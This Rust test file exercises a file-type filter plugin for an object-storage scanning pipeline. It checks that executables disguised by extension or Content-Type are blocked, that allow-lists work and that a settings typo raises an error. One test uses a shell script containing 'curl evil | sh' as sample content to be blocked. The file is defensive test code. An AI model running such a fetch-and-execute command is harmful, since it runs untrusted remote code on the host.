//! The filetype-filter plugin: real type from magic bytes, not names.

use bucketscan_core::Verdict;
use bucketscan_core::grants::Grants;
use bucketscan_tests::host::{TestHost, clamav_grant, object, stage, test_limits};
use bucketscan_tests::samples;

fn blocked_reason(verdict: &Verdict) -> &str {
    match verdict {
        Verdict::Blocked { reason } => reason,
        other => panic!("expected blocked, got {other:?}"),
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_pdf_that_is_an_executable_is_blocked() {
    let host = TestHost::with_clamd(test_limits());
    let filter = host.plugin("filetype_filter").await;
    let exe = std::fs::read(samples::clamav_testfile("clam.exe")).unwrap();
    let report = host
        .run(
            &[stage(&filter, &[("block-mismatch", "true")], Grants::default())],
            object("staging", "invoices/march.pdf", exe, Some("application/pdf")),
        )
        .await;
    let reason = blocked_reason(&report.verdict);
    assert!(
        reason.contains("extension claims pdf but the content is executable"),
        "{reason}"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn a_lying_content_type_is_blocked_too() {
    let host = TestHost::with_clamd(test_limits());
    let filter = host.plugin("filetype_filter").await;
    let elf = b"\x7fELF\x02\x01\x01\x00"
        .iter()
        .copied()
        .chain(std::iter::repeat_n(0, 120))
        .collect();
    let report = host
        .run(
            &[stage(&filter, &[("block-mismatch", "true")], Grants::default())],
            object("staging", "photo", elf, Some("image/png")),
        )
        .await;
    let reason = blocked_reason(&report.verdict);
    assert!(
        reason.contains("Content-Type claims image but the content is executable"),
        "{reason}"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn denied_categories_are_blocked_whatever_the_name() {
    let host = TestHost::with_clamd(test_limits());
    let filter = host.plugin("filetype_filter").await;
    let report = host
        .run(
            &[stage(
                &filter,
                &[("deny", r#"["executable", "script"]"#)],
                Grants::default(),
            )],
            object("staging", "readme.txt", b"#!/bin/sh\ncurl evil | sh\n".to_vec(), None),
        )
        .await;
    assert!(blocked_reason(&report.verdict).contains("file type script"));
}

#[tokio::test(flavor = "multi_thread")]
async fn allowed_types_pass_on_to_the_scanner() {
    let host = TestHost::with_clamd(test_limits());
    let filter = host.plugin("filetype_filter").await;
    let bridge = host.plugin("clamav_bridge").await;
    let pipeline = [
        stage(
            &filter,
            &[("allow", r#"["pdf", "text"]"#), ("block-mismatch", "true")],
            Grants::default(),
        ),
        stage(&bridge, &[], clamav_grant()),
    ];
    let report = host
        .run(
            &pipeline,
            object("staging", "notes.txt", samples::clean_text(), Some("text/plain")),
        )
        .await;
    assert_eq!(report.verdict, Verdict::Clean, "{report:#?}");
    assert_eq!(report.stages[0].outcome, "continue");
    assert_eq!(report.stages[1].outcome, "clean");

    // An allow-list blocks what it does not name, before clamd is asked.
    let exe = std::fs::read(samples::clamav_testfile("clam.exe")).unwrap();
    let report = host.run(&pipeline, object("staging", "tool.exe", exe, None)).await;
    assert!(blocked_reason(&report.verdict).contains("not in the allowed types"));
    assert_eq!(report.stages[1].outcome, "skipped");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_typo_in_settings_is_an_error_not_a_silent_pass() {
    let host = TestHost::with_clamd(test_limits());
    let filter = host.plugin("filetype_filter").await;
    let report = host
        .run(
            &[stage(&filter, &[("dney", "executable")], Grants::default())],
            object("staging", "a.txt", samples::clean_text(), None),
        )
        .await;
    match &report.verdict {
        Verdict::Error { message } => {
            assert!(
                message.contains("filetype-filter@0.1.0") && message.contains("unknown setting `dney`"),
                "{message}"
            )
        }
        other => panic!("expected error, got {other:?}"),
    }
}
